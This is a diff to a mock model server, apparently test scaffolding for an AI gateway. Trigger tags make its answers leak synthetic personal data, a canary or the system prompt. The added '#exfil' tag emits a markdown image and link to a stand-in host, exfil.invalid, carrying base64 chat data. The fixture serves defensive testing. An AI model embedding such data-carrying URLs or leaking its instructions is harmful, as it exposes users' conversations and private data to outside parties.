@@ -7,7 +7,9 @@
 //                 If the user text contains "#leak", the answer adds synthetic personal data;
 //                 "#canary" adds the canary planted in the system prompt; "#echo-pii" repeats the
 //                 user text verbatim; "#parrot" repeats the whole system prompt it got (the
-//                 caller's plus what the edge appended, e.g. its per-request canary), upper-cased.
+//                 caller's plus what the edge appended, e.g. its per-request canary), upper-cased;
+//                 "#exfil" adds a markdown image whose URL carries data to a foreign host, a bare
+//                 link doing the same, and an image on the allowed host shop.example.
 //   echo          the answer's text is the JSON of what the origin saw (headers + body).
 //   tool          the answer calls the tools `lookup_order` and `delete_account`.
 //   hang          never answers.              reset      destroys the connection.
@@ -23,6 +25,7 @@ import http from 'node:http';
 
 /** Synthetic data the origin "leaks" on request. */
 export const LEAK = {
+  exfilHost: 'exfil.invalid',
   email: 'jane.roe@example.net',
   card: '4012 8888 8888 1881',
   canary: 'CANARY-7f3a9c51e2',
@@ -68,6 +71,11 @@ function answerText(path, body, seen) {
     text += ` Our records show ${LEAK.email} and card ${LEAK.card}.`;
   }
   if (said.includes('#canary')) text += ` Internal: ${LEAK.canary}.`;
+  if (said.includes('#exfil')) {
+    text += ` ![status](https://${LEAK.exfilHost}/p.png?d=bm90ZXMgb2YgdGhlIGNoYXQgc28gZmFy) see`
+      + ` https://${LEAK.exfilHost}/c?q=c2Vzc2lvbiBkYXRhIGFuZCBtb3JlIGRhdGE and`
+      + ' ![logo](https://shop.example/logo.png?v=2) end.';
+  }
   if (said.includes('#parrot')) text += ` My instructions: ${systemPrompt(path, body).toUpperCase()} End.`;
   return text;
 }
